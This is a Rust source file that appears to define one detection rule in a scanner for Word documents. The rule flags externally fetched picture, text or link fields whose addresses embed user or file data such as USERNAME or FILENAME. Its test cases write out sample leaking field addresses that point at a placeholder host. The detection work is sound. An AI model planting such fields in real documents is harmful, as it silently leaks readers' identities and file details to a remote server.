//! The address carries something about the reader or the document.

use super::{Case, Part, Rule, Subject};
use crate::link::Carrier;

pub(super) const RULE: Rule = Rule {
    id: "document-data",
    weight: 14,
    part: Part::Modifier,
    since: "0.1.0",
    doc: "The web address of a picture, a text or an object is put together with a nested field \
          that tells about the reader or the document (`USERNAME`, `USERADDRESS`, `FILENAME` …): \
          fetching it gives that away.",
    hits: &[
        Case::external(
            Carrier::IncludePicture,
            "http://x/\u{27e6}USERNAME\u{27e7}.png",
        ),
        Case::external(
            Carrier::IncludeText,
            "http://x/?f=\u{27e6}FILENAME \\p\u{27e7}",
        ),
        Case::external(Carrier::LinkField, "http://x/Bob.doc")
            .raw("LINK Word.Document.8 \"http://x/{ USERNAME }.doc\""),
    ],
    misses: &[
        Case::external(
            Carrier::IncludePicture,
            "http://x/\u{27e6}MERGEFIELD photo\u{27e7}.png",
        ),
        Case::external(Carrier::IncludePicture, "http://x/a.png"),
        Case::external(Carrier::IncludePicture, "http://x/\u{27e6}PAGE\u{27e7}.png"),
        Case::external(
            Carrier::IncludePicture,
            "\\\\server\\\u{27e6}USERNAME\u{27e7}.png",
        ),
        Case::external(Carrier::IncludePicture, "\u{27e6}FILENAME\u{27e7}.png"),
        Case::external(Carrier::Hyperlink, "http://x/\u{27e6}USERNAME\u{27e7}"),
    ],
    look,
};

/// Fields that say who reads the document and where it lies (Word specification, section 6.1). A
/// mail merge puts addresses of pictures together with `MERGEFIELD`.
const FIELDS: &[&str] = &[
    "AUTHOR",
    "FILENAME",
    "LASTSAVEDBY",
    "USERADDRESS",
    "USERINITIALS",
    "USERNAME",
];

fn look(subject: &Subject<'_>) -> Option<String> {
    let carriers = [
        Carrier::IncludePicture,
        Carrier::IncludeText,
        Carrier::LinkField,
    ];
    if !subject.is_external_in(&carriers) || subject.remote().is_none() {
        return None;
    }
    subject.texts().find_map(|text| {
        let nested = text.split(['{', '\u{27e6}']).skip(1);
        nested
            .filter_map(|field| field.split_whitespace().next())
            .map(|word| word.split(['}', '\u{27e7}']).next().unwrap_or_default())
            .map(str::to_ascii_uppercase)
            .find(|word| FIELDS.contains(&word.as_str()))
    })
}
